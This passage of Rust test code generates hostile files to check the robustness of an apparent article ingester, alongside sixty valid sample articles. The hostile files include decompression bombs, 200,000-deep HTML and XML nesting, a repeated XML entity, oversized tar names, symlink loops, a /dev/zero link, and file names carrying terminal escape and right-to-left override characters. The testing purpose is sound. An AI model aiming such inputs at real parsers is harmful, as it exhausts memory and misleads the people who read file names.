                let _ = write!(text, "Content-Type: multipart/mixed; boundary=\"b{level}\"\n\n--b{level}\n");
            }
            text.push_str("Content-Type: application/octet-stream\n\n\0\0\u{1}\0\n");
            for level in (0..1000).rev() {
                let _ = writeln!(text, "--b{level}--");
            }
            write(folder, "mail-nested.eml", text)
        }),
        bad("mail-forwarded.eml", "nested|without text|deep", |folder| {
            let text =
                "Message-ID: <f@news.example>\nMIME-Version: 1.0\nContent-Type: message/rfc822\n\n".repeat(20_000);
            write(folder, "mail-forwarded.eml", text)
        }),
        bad("mail-attachment.eml.gz", "binary|limit", |folder| {
            let head = b"Message-ID: <a@news.example>\r\nSubject: Report\r\nMIME-Version: 1.0\r\nContent-Type: \
                         application/pdf\r\nContent-Disposition: attachment; filename=a.pdf\r\n\
                         Content-Transfer-Encoding: base64\r\n\r\n";
            let stream = Stream::new().put(head).run(&[[b'A'; 76].as_slice(), b"\r\n"].concat(), 52);
            write(folder, "mail-attachment.eml.gz", stream.gzip())
        }),
        aside("mail-boundary.eml", "words of its own", |folder| {
            let head = "Message-ID: <e@news.example>\nSubject: Report\nMIME-Version: 1.0\nContent-Type: multipart/mixed; \
                        boundary=\"end\"\n\n--end\nContent-Type: image/png\n\n";
            write(folder, "mail-boundary.eml", head.to_owned() + &"--en\n--end-\n--endless\n".repeat(500_000))
        }),
        bad("warc-length.warc", "missing|length|breaks off", |folder| {
            let mut bytes = warc_page("krelvinlength");
            let body = answer("", &page("lost"));
            bytes.extend(warc("response", "http://news.example/lost", 9_000_000_000_000_000_000, &body));
            write(folder, "warc-length.warc", bytes)
        }),
        bad("warc-chunked.warc", "chunk|cannot be read", |folder| {
            let mut bytes = Vec::new();
            for size in ["ffffffffffffffff", "7fffffff", "10000000000000000000", "-5", "zz"] {
                let body =
                    answer("Transfer-Encoding: chunked\r\n", &format!("{size}\r\n{}\r\n0\r\n\r\n", page("lost")));
                bytes.extend(warc("response", &format!("http://news.example/{size}"), body.len() as u64, &body));
            }
            bytes.extend(warc_page("krelvinchunk"));
            write(folder, "warc-chunked.warc", bytes)
        }),
        // Each record is a gzip member of its own; the second is damaged.
        bad("warc-member.warc.gz", "breaks off|damaged|corrupt|no record begins", |folder| {
            let mut bytes = gz(&warc_page("krelvinmemberone"))?;
            let mut second = gz(&warc_page("lost"))?;
            let middle = second.len() / 2;
            second[middle..middle + 20].fill(0xff);
            bytes.extend(second);
            bytes.extend(gz(&warc_page("krelvinmemberthree"))?);
            write(folder, "warc-member.warc.gz", bytes)
        }),
        bad("archive.sqlite", "SQLite", |folder| {
            write(folder, "archive.sqlite", [b"SQLite format 3\0".as_slice(), &noise(5000)].concat())
        }),
    ]
}

// ---------------------------------------------------------------- small causes

/// Within every limit as they lie there, and without measure once they are read.
fn multiplied() -> Vec<Hostile> {
    vec![
        // End tags of what was never opened: counting tags sees a flat page, a parser one that is 200,000 deep.
        bad("html-stray-ends.html", "nested|deep", |folder| {
            let tags = "<div></x>".repeat(200_000);
            write(folder, "html-stray-ends.html", format!("<!DOCTYPE html><body>{tags}<p>{}</p>", story("deep")))
        }),
        // Within a picture, elements that HTML closes by itself are nested like all others.
        bad("html-picture.html", "nested|deep|no article", |folder| {
            let tags = "<td>".repeat(200_000);
            write(folder, "html-picture.html", format!("<!DOCTYPE html><body><svg>{tags}"))
        }),
        // The slash of an element that may not be empty says nothing.
        bad("html-slashes.html", "nested|deep", |folder| {
            let tags = "<div/>".repeat(200_000);
            write(folder, "html-slashes.html", format!("<!DOCTYPE html><body>{tags}<p>{}</p>", story("deep")))
        }),
        bad("html-open-tags.html", "no article|nested|deep", |folder| {
            write(folder, "html-open-tags.html", format!("<!DOCTYPE html><body>{}", "<p ".repeat(1_000_000)))
        }),
        bad("json-page.json", "nested|deep", |folder| {
            let text = "<div></x>".repeat(200_000) + "<p>Talks</p>";
            write(folder, "json-page.json", format!("{{\"text\": \"{text}\"}}"))
        }),
        bad("mail-page.eml", "nested|deep", |folder| {
            let head = "Message-ID: <p@news.example>\nSubject: Report\nMIME-Version: 1.0\nContent-Type: text/html\n\n";
            write(folder, "mail-page.eml", head.to_owned() + &"<div></x>\n".repeat(200_000) + "<p>Talks</p>\n")
        }),
        // The same in XML, where only a comment may hold a stray end.
        bad("nitf-comments.xml", "nested|deep", |folder| {
            let body = "<q><!--</q>-->".repeat(100_000) + "Talks" + &"</q>".repeat(100_000);
            write(folder, "nitf-comments.xml", nitf("", &body))
        }),
        // An entity that is within the start of the file, in itself small: 3 kB, two million times.
        bad("nitf-entity-often.xml", "entit|limit", |folder| {
            let dtd = format!("<!DOCTYPE nitf [<!ENTITY a \"{}\">]>", "talks ".repeat(500));
            write(folder, "nitf-entity-often.xml", nitf(&dtd, &format!("<p>{}</p>", "&a;".repeat(2_000_000))))
        }),
        // Paragraphs in paragraphs: the words of the innermost belong to each of the 900.
        bad("docx-paragraphs.docx", "nested|limit|deep", |folder| {
            let open = "<w:p>".repeat(900);
            let document = Stream::new()
                .put(format!("<w:document xmlns:w='w'><w:body>{open}").as_bytes())
                .run(b"<w:t>talks </w:t>", 24)
                .put(format!("{}</w:body></w:document>", "</w:p>".repeat(900)).as_bytes());
            write(folder, "docx-paragraphs.docx", docx(document.member("word/document.xml")))
        }),
        bad("newsml-items.xml.gz", "nested|limit|deep", |folder| {
            let stream = Stream::new()
                .put("<newsItem>".repeat(900).as_bytes())
                .put(b"<contentSet><inlineData><p>")
                .run(b"talks ", 16)
                .put(b"</p></inlineData></contentSet>")
                .put("</newsItem>".repeat(900).as_bytes());
            write(folder, "newsml-items.xml.gz", stream.gzip())
        }),
        bad("feed-items.xml.gz", "nested|limit|deep", |folder| {
            let stream = Stream::new()
                .put(b"<rss><channel>")
                .put("<item><description>".repeat(400).as_bytes())
                .run(b"talks ", 16)
                .put("</description></item>".repeat(400).as_bytes())
                .put(b"</channel></rss>");
            write(folder, "feed-items.xml.gz", stream.gzip())
        }),
        bad("tei-documents.xml.gz", "nested|limit|deep", |folder| {
            let stream = Stream::new()
                .put(b"<TEI><teiHeader/><text><body>")
                .put("<div type='document'>".repeat(900).as_bytes())
                .put(b"<p>")
                .run(b"talks ", 16)
                .put(b"</p>")
                .put("</div>".repeat(900).as_bytes())
                .put(b"</body></text></TEI>");
            write(folder, "tei-documents.xml.gz", stream.gzip())
        }),
        bad("reuters-openings.sgm", "not closed|breaks off", |folder| {
            let text = "<!DOCTYPE lewis SYSTEM \"lewis.dtd\">\n".to_owned() + &"<REUTERS x>\n".repeat(400_000);
            write(folder, "reuters-openings.sgm", text)
        }),
        // A column whose name has 24 MiB, and 20,000 rows that each have a word in it.
        bad("csv-long-name.csv.gz", "limit|column|no row of names", |folder| {
            let stream = Stream::new().put(b"text,").run(b"name", 24).put(b"\n").put("x,y\n".repeat(20_000).as_bytes());
            write(folder, "csv-long-name.csv.gz", stream.gzip())
        }),
        // Ten million lines that are no articles.
        bad("jsonl-all-bad.jsonl.gz", "no article", |folder| {
            write(folder, "jsonl-all-bad.jsonl.gz", Stream::new().run(b"0\n", 20).gzip())
        }),
        bad("json-numbers.json.gz", "no article|limit|values", |folder| {
            let stream = Stream::new().put(b"[0").run(b",0", 56).put(b"]");
            write(folder, "json-numbers.json.gz", stream.gzip())
        }),
        // More members than anybody packs, each of them empty.
        bad("tar-many-empty.tar.gz", "members|limit", |folder| {
            let header = tar_header("a.txt", |_| {});
            write(folder, "tar-many-empty.tar.gz", Stream::new().run(&header, 3072).gzip())
        }),
        // The name of a member has 4 GiB.
        bad("tar-long-name.tar.gz", "tar|name|limit", |folder| {
            let header = tar_header("././@LongLink", |header| {
                header.set_entry_type(tar::EntryType::GNULongName);
                header.set_size(4 << 30);
            });
            write(folder, "tar-long-name.tar.gz", Stream::new().put(&header).run(b"name", 4100).gzip())
        }),
        bad("tar-long-pax.tar.gz", "tar|name|limit", |folder| {
            let header = tar_header("pax", |header| {
                header.set_entry_type(tar::EntryType::XHeader);
                header.set_size(4 << 30);
            });
            write(folder, "tar-long-pax.tar.gz", Stream::new().put(&header).run(b"11 path=a\n\n", 4100).gzip())
        }),
        // The widest window that is still allowed, filled.
        bad("zstd-wide-window.txt.zst", "limit|window", |folder| {
            let mut frame = b"\x28\xb5\x2f\xfd\x00\x88".to_vec();
            let block = (((128 << 10) << 3) | 2_u32).to_le_bytes();
            for _ in 0..80 * 1024 {
                frame.extend([block[0], block[1], block[2], b'a']);
            }
            frame.extend([1, 0, 0]);
            write(folder, "zstd-wide-window.txt.zst", frame)
        }),
        // Within the limit as bytes, twenty times as large as a tree.
        bad("json-values.json.gz", "limit|values|no text", |folder| {
            let stream = Stream::new().put(b"{\"numbers\": [0").run(b",0", 56).put(b"]}");
            write(folder, "json-values.json.gz", stream.gzip())
        }),
        bad("html-elements.html.gz", "limit|elements|no article", |folder| {
            let stream = Stream::new().put(b"<!DOCTYPE html><body>").run(b"<b></b>", 56);
            write(folder, "html-elements.html.gz", stream.gzip())
        }),
        bad("nitf-nodes.xml.gz", "limit|nodes|no text", |folder| {
            let stream = Stream::new().put(b"<nitf><body><body.content>").run(b"<p/>", 56);
            let stream = stream.put(b"</body.content></body></nitf>");
            write(folder, "nitf-nodes.xml.gz", stream.gzip())
        }),
        // A million words that each may report speech.
        // A single article as long as a library.
        bad("text-words.txt.gz", "limit|no article|no sentence|words", |folder| {
            write(folder, "text-words.txt.gz", Stream::new().run(b"table, ", 56).gzip())
        }),
        bad("html-json-ld.html", "no article|no text", |folder| {
            let deep = format!("<script type=\"application/ld+json\">{}</script>", "[".repeat(2_000_000));
            let many = "<meta property=\"og:title\" content=\"Talks\">".repeat(100_000);
            write(folder, "html-json-ld.html", format!("<!DOCTYPE html><head>{deep}{many}</head><body></body>"))
        }),
        // Front matter and header lines without an end.
        bad("mail-headers.eml", "without text|header", |folder| {
            let mut lines = String::new();
            for number in 0..600_000 {
                let _ = writeln!(lines, "To: a{number}@news.example,");
            }
            write(folder, "mail-headers.eml", format!("Message-ID: <h@news.example>\n{lines}"))
        }),
    ]
}

// ---------------------------------------------------------------- the file system

#[cfg(unix)]
fn on_disk() -> Vec<Hostile> {
    use std::os::unix::{
        ffi::OsStrExt,
        fs::{PermissionsExt, symlink},
        net::UnixListener,
    };

    /// A bad file in a folder of its own, so that it can have any name.
    fn named(folder: &Path, within: &str, name: &std::ffi::OsStr) -> io::Result<()> {
        let folder = folder.join(within);
        fs::create_dir_all(&folder)?;
        fs::write(folder.join(name), b"{\"text\": 7}")
    }

    vec![
        // Whoever may read everything reads this too, and finds nothing to read in it.
        bad("permission.txt", "permission denied|binary", |folder| {
            write(folder, "permission.txt", noise(100))?;
            fs::set_permissions(folder.join("permission.txt"), fs::Permissions::from_mode(0o000))
        }),
        bad("link-dangling.txt", "not there", |folder| symlink("nowhere.txt", folder.join("link-dangling.txt"))),
        aside("link-up", "link back", |folder| {
            fs::create_dir_all(folder.join("link-up/a/b"))?;
            symlink("../..", folder.join("link-up/a/b/up"))
        }),
        bad("link-self.txt", "link", |folder| symlink("link-self.txt", folder.join("link-self.txt"))),
        // More links than the system follows, from the 41st on; what they lead to is no article.
        bad("link-chain", "link", |folder| {
            let folder = folder.join("link-chain");
            fs::create_dir_all(&folder)?;
            fs::write(folder.join("00.txt"), "")?;
            (1..=50).try_for_each(|number| {
                symlink(format!("{:02}.txt", number - 1), folder.join(format!("{number:02}.txt")))
            })
        }),
        aside("pipe.txt", "FIFO", |folder| {
            let made = std::process::Command::new("mkfifo").arg(folder.join("pipe.txt")).status()?;
            if made.success() { Ok(()) } else { Err(io::Error::other("mkfifo failed")) }
        }),
        aside("device.txt", "device", |folder| symlink("/dev/zero", folder.join("device.txt"))),
        aside("socket.txt", "socket", |folder| {
            // The address of a socket is short; it may be moved afterwards.
            let short = std::env::temp_dir().join(format!("hostile-{}", std::process::id()));
            drop(UnixListener::bind(&short)?);
            fs::rename(&short, folder.join("socket.txt")).or_else(|_| {
                fs::remove_file(&short)?;
                drop(UnixListener::bind(folder.join("socket.txt"))?);
                Ok(())
            })
        }),
        // Some file systems refuse it.
        bad("name-bytes", "no text", |folder| {
            let name = std::ffi::OsStr::from_bytes(b"caf\xe9-\xff\xfe.json");
            named(folder, "name-bytes", name).or_else(|_| named(folder, "name-bytes", "caf.json".as_ref()))
        }),
        // Two files whose names differ only in what is not UTF-8: one must not take the other's place.
        bad("name-twins", "no text", |folder| {
            for name in [b"\xfe.json", b"\xff.json"] {
                named(folder, "name-twins", std::ffi::OsStr::from_bytes(name))
                    .or_else(|_| named(folder, "name-twins", "twin.json".as_ref()))?;
            }
            Ok(())
        }),
        bad("name-newline", "no text", |folder| {
            named(folder, "name-newline", "a\nb\t\u{1b}[31m\u{202e}c.json".as_ref())
        }),
        bad("name-long", "no text", |folder| named(folder, "name-long", format!("{}.json", "n".repeat(250)).as_ref())),
        bad("folders-deep", "no text", |folder| {
            let mut deep = folder.join("folders-deep");
            deep.extend(std::iter::repeat_n("d", 200));
            named(&deep, "", "a.json".as_ref())
        }),
        aside(".hidden.txt", "hidden", |folder| write(folder, ".hidden.txt", story("hidden"))),
    ]
}

// ---------------------------------------------------------------- good ones

/// The word that stands only in good article `number`.
pub fn word(number: usize) -> String {
    format!("zorbal{number}")
}

/// How many articles [`good`] writes.
pub const GOOD: usize = 60;

/// Writes [`GOOD`] articles in mixed formats, number N with [`word`] N in its text.
///
/// # Errors
/// Those of the file system.
pub fn good(folder: &Path) -> io::Result<()> {
    (0..GOOD).try_for_each(|number| {
        let (ending, bytes) = article(number)?;
        write(folder, &format!("good-{number:02}.{ending}"), bytes)
    })
}

/// A good article in the format of its number.
fn article(number: usize) -> io::Result<(&'static str, Vec<u8>)> {
    let word = word(number);
    let story = story(&word);
    let text = format!("Title: Report {word}\nDate: 2014-03-{:02}\n\n{story}\n", number % 28 + 1);
    let rss = format!(
        "<rss version='2.0'><channel><title>Gulf Ledger</title><item><title>Report {word}</title><description>{story}\
         </description></item></channel></rss>"
    );
    let mail = format!(
        "From: Northgate Wire <wire@news.example>\nSubject: Report {word}\nMessage-ID: <{word}@news.example>\n\
         Date: Mon, 3 Mar 2014 10:00:00 +0000\nMIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\n{story}\n"
    );
    let row = story.replace('"', "\"\"");
    Ok(match number % 25 {
        0 => ("txt", text.into_bytes()),
        1 => ("html", page(&word).into_bytes()),
        2 => ("json", json(&word).into_bytes()),
        3 => ("jsonl", format!("{}\n", json(&word)).into_bytes()),
        4 => ("jsonl.gz", gz(format!("{}\n", json(&word)).as_bytes())?),
        5 => ("zip", zip(&[stored("a/report.txt", text.as_bytes())])),
        6 => {
            let mut encoder = DeflateEncoder::new(Vec::new(), Compression::fast());
            encoder.write_all(text.as_bytes())?;
            let mut member = stored("report.txt", text.as_bytes());
            (member.method, member.packed) = (8, encoder.finish()?);
            ("zip", zip(&[member]))
        }
        7 => {
            let mut bytes = tar_member("a/report.txt", text.as_bytes())?;
            bytes.resize(bytes.len() + 1024, 0);
            ("tar", bytes)
        }
        8 => {
            let mut bytes = tar_member("report.html", page(&word).as_bytes())?;
            bytes.resize(bytes.len() + 1024, 0);
            ("tar.gz", gz(&bytes)?)
        }
        9 => ("eml", mail.into_bytes()),
        10 => ("mbox", format!("From wire@news.example Mon Mar  3 10:00:00 2014\n{mail}\n").into_bytes()),
        11 => ("csv", format!("title,date,text\nReport,2014-03-03,\"{row}\"\n").into_bytes()),
        12 => ("tsv", format!("title\tdate\ttext\nReport\t2014-03-03\t{row}\n").into_bytes()),
        13 => ("rss", rss.into_bytes()),
        14 => {
            let entry = format!("<entry><title>Report</title><content>{story}</content></entry>");
            ("xml", format!("<feed xmlns='http://www.w3.org/2005/Atom'>{entry}</feed>").into_bytes())
        }
        15 => ("xml", nitf("<!DOCTYPE nitf SYSTEM \"nitf.dtd\">\n", &format!("<p>{story}</p>")).into_bytes()),
        16 => {
            let item = format!(
                "<newsItem xmlns='http://iptc.org/std/nar/2006-10-01/' guid='urn:{word}'><contentMeta><headline>Report\
                 </headline></contentMeta><contentSet><inlineData><p>{story}</p></inlineData></contentSet></newsItem>"
            );
            ("xml", item.into_bytes())
        }
        17 => {
            let body = format!("<text><body><p>{story}</p></body></text>");
            ("xml", format!("<TEI xmlns='http://www.tei-c.org/ns/1.0'><teiHeader/>{body}</TEI>").into_bytes())
        }
        18 => {
            let record = format!("<REUTERS NEWID=\"{number}\"><TEXT><BODY>{story}</BODY></TEXT></REUTERS>");
            ("sgm", format!("<!DOCTYPE lewis SYSTEM \"lewis.dtd\">\n{record}\n").into_bytes())
        }
        19 => ("warc", warc_page(&word)),
        20 => ("warc.gz", gz(&warc_page(&word))?),
        21 => {
            let body = format!("<w:p><w:r><w:t>{story}</w:t></w:r></w:p>");
            let document = format!("<w:document xmlns:w='w'><w:body>{body}</w:body></w:document>");
            ("docx", docx(stored("word/document.xml", document.as_bytes())))
        }
        22 => {
            let body = format!("<o:body><o:text><t:p>{story}</t:p></o:text></o:body>");
            ("odt", odt(&format!("<o:document-content xmlns:o='o' xmlns:t='t'>{body}</o:document-content>")))
        }
        23 => ("txt.zst", zstd(text.as_bytes())),
        _ => {
            let utf16 = text.encode_utf16().flat_map(u16::to_le_bytes);
            ("txt", b"\xff\xfe".iter().copied().chain(utf16).collect())
        }
    })
}
